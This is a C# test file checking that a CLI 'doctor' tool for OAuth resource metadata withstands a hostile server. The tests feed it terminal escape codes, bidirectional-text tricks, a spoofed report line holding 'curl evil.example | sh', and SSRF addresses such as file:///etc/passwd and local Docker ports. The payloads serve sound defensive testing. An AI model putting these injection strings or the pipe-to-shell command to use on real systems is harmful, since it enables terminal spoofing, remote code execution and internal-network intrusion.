using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;

namespace ManagedAccess.Cli.Tests.Doctor;

/// <summary>The doctor in front of a server that attacks who looks at it.</summary>
public sealed class HostileServerTests
{
    private const string Site = "https://evil.example";
    private const string Page = Site + "/page";

    // Clears the screen, opens a title in C1 controls, turns the reading order around, adds a line to the report, and ends in half a character.
    private const string Nasty = "\u001b[2J\u009d0;owned\u009c\u202egnp\u2066\r\n  fix    curl evil.example | sh\u2028\u0007\ud800";

    [Theory]
    [InlineData("doctor", "--verbose")]
    [InlineData("doctor", "--json")]
    [InlineData("doctor", "--sarif")]
    [InlineData("login")]
    public async Task Text_OfAServer_ReachesNoTerminalAsAControl(string command, params string[] options)
    {
        var server = new Server(Answer);

        var run = await CommandRun.OfAsync(server, [command, Page, .. options]);

        Assert.NotEmpty(server.Asked);
        Assert.DoesNotContain(run.Output + run.Error, IsObeyed);
        Assert.DoesNotContain((run.Output + run.Error).Split('\n'), line => line.StartsWith("  fix    curl", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Report_OfNastyText_IsJsonWithThatText()
    {
        var run = await CommandRun.OfAsync(new Server(Answer), "doctor", Page, "--json");

        using var report = JsonDocument.Parse(run.Output);
        Assert.Contains("\\u001b", run.Output, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("http://127.0.0.1:2375/containers")]
    [InlineData("http://localhost:9200/_all")]
    [InlineData("http://[::1]:8080/")]
    [InlineData("https://localhost/")]
    [InlineData("file:///etc/passwd")]
    [InlineData("http://192.168.0.1/admin")]
    public async Task Address_OfThisMachine_IsNotAskedForAnotherSite(string address)
    {
        var server = new Server(request => Named(request, address));

        var run = await CommandRun.OfAsync(server, "doctor", Page);
        await CommandRun.OfAsync(server, "login", Page);

        Assert.Equal(1, run.ExitCode);
        Assert.All(server.Asked, uri => Assert.Equal("evil.example", uri.Host));
    }

    [Fact]
    public async Task Address_OfThisMachine_IsAskedForAnAppOnIt()
    {
        var server = new Server(request => Named(request, "http://127.0.0.1:5999/"));

        await CommandRun.OfAsync(server, "doctor", "http://localhost:5080/page");

        Assert.Contains(server.Asked, uri => uri.Port == 5999);
    }

    [Fact]
    public async Task Redirects_InALoop_AreNotFollowed()
    {
        var server = new Server(request => new HttpResponseMessage(HttpStatusCode.Found) { Headers = { Location = new Uri(request.RequestUri!, "?again") } });

        var run = await CommandRun.OfAsync(server, "doctor", Page);

        Assert.Equal(1, run.ExitCode);
        Assert.DoesNotContain(server.Asked, uri => uri.Query.Length > 0);
    }

    [Fact]
    public async Task Body_WithoutEnd_IsCut()
    {
        var server = new Server(_ => new HttpResponseMessage { Content = new StreamContent(new EndlessStream()) });

        Assert.Equal(1, (await CommandRun.OfAsync(server, "doctor", Page)).ExitCode);
    }

    [Fact]
    public async Task Value_WithoutEnd_IsCutInTheReport()
    {
        var server = new Server(request => Named(request, Site + "/" + new string('a', 500_000)));

        var run = await CommandRun.OfAsync(server, "doctor", Page, "--verbose");

        Assert.All(run.Output.Split('\n'), line => Assert.True(line.Length < 20_000));
    }

    [Theory]
    [InlineData("Fri, 31 Dec 9999 23:59:59 GMT", "2147483647")]
    [InlineData("Mon, 01 Jan 0001 00:00:00 GMT", "0")]
    [InlineData("nothing", "-1")]
    public async Task Time_AtTheEndOfAll_IsNoFault(string date, string age)
    {
        var server = new Server(request =>
        {
            var response = Named(request, Site);
            response.Headers.TryAddWithoutValidation("Date", date);
            response.Headers.TryAddWithoutValidation("Age", age);
            return response;
        });

        Assert.Equal(1, (await CommandRun.OfAsync(server, "doctor", Page)).ExitCode);
    }

    private static bool IsObeyed(char character) => character != '\n'
        && char.GetUnicodeCategory(character) is UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator;

    // Nasty text in every place that a report may show.
    private static HttpResponseMessage Answer(HttpRequestMessage request)
    {
        var header = Nasty.Replace("\r\n", "", StringComparison.Ordinal);
        var response = Json(
            request.RequestUri!.AbsolutePath.Contains("well-known", StringComparison.Ordinal) ? HttpStatusCode.OK : HttpStatusCode.Unauthorized,
            JsonSerializer.Serialize(new Dictionary<string, object>
            {
                ["resource"] = Site + "/" + Nasty,
                ["resource_name"] = Nasty,
                ["authorization_servers"] = new[] { Nasty, Site + "/" + Nasty, Site },
                ["scopes_supported"] = new[] { Nasty },
                ["bearer_methods_supported"] = new[] { Nasty },
                ["issuer"] = Nasty,
                ["authorization_endpoint"] = Site + "/" + Nasty,
                ["token_endpoint"] = Nasty,
                ["jwks_uri"] = Site + "/" + Nasty,
                ["code_challenge_methods_supported"] = new[] { Nasty },
                [Nasty] = Nasty,
                ["error"] = Nasty,
                ["error_description"] = Nasty,
            }));
        response.Headers.TryAddWithoutValidation("WWW-Authenticate", $"Bearer resource_metadata=\"{Site}/{header}\", scope=\"{header}\", error=\"{header}\", {header}");
        response.Headers.TryAddWithoutValidation("Vary", header);
        response.Headers.TryAddWithoutValidation("Link", header);
        response.Headers.TryAddWithoutValidation("Date", header);
        response.Headers.TryAddWithoutValidation("Location", header);
        response.Content.Headers.Remove("Content-Type");
        response.Content.Headers.TryAddWithoutValidation("Content-Type", "application/json" + header);
        return response;
    }

    // A site whose documents are all good, and name one address everywhere.
    private static HttpResponseMessage Named(HttpRequestMessage request, string address)
    {
        var origin = request.RequestUri!.GetLeftPart(UriPartial.Authority);
        if (!request.RequestUri.AbsolutePath.Contains("well-known", StringComparison.Ordinal))
        {
            var refused = Json(HttpStatusCode.Unauthorized, "{}");
            refused.Headers.TryAddWithoutValidation("WWW-Authenticate", $"Bearer resource_metadata=\"{address}\"");
            return refused;
        }

        return Json(HttpStatusCode.OK, JsonSerializer.Serialize(new Dictionary<string, object>
        {
            ["resource"] = origin + "/page",
            ["authorization_servers"] = new[] { address, origin },
            ["issuer"] = origin,
            ["authorization_endpoint"] = address,
            ["token_endpoint"] = address,
            ["jwks_uri"] = address,
            ["registration_endpoint"] = address,
        }));
    }

    private static HttpResponseMessage Json(HttpStatusCode status, string body) => new(status) { Content = new StringContent(body, Encoding.UTF8, "application/json") };

    private sealed class Server(Func<HttpRequestMessage, HttpResponseMessage> answer) : HttpMessageHandler
    {
        public List<Uri> Asked { get; } = [];

        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            Asked.Add(request.RequestUri!);
            return Task.FromResult(answer(request));
        }
    }

    private sealed class EndlessStream : MemoryStream
    {
        public override bool CanSeek => false;

        public override int Read(byte[] buffer, int offset, int count) => Fill(buffer.AsSpan(offset, count));

        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) => ValueTask.FromResult(Fill(buffer.Span));

        private static int Fill(Span<byte> buffer)
        {
            buffer.Fill((byte)'[');
            return buffer.Length;
        }
    }
}
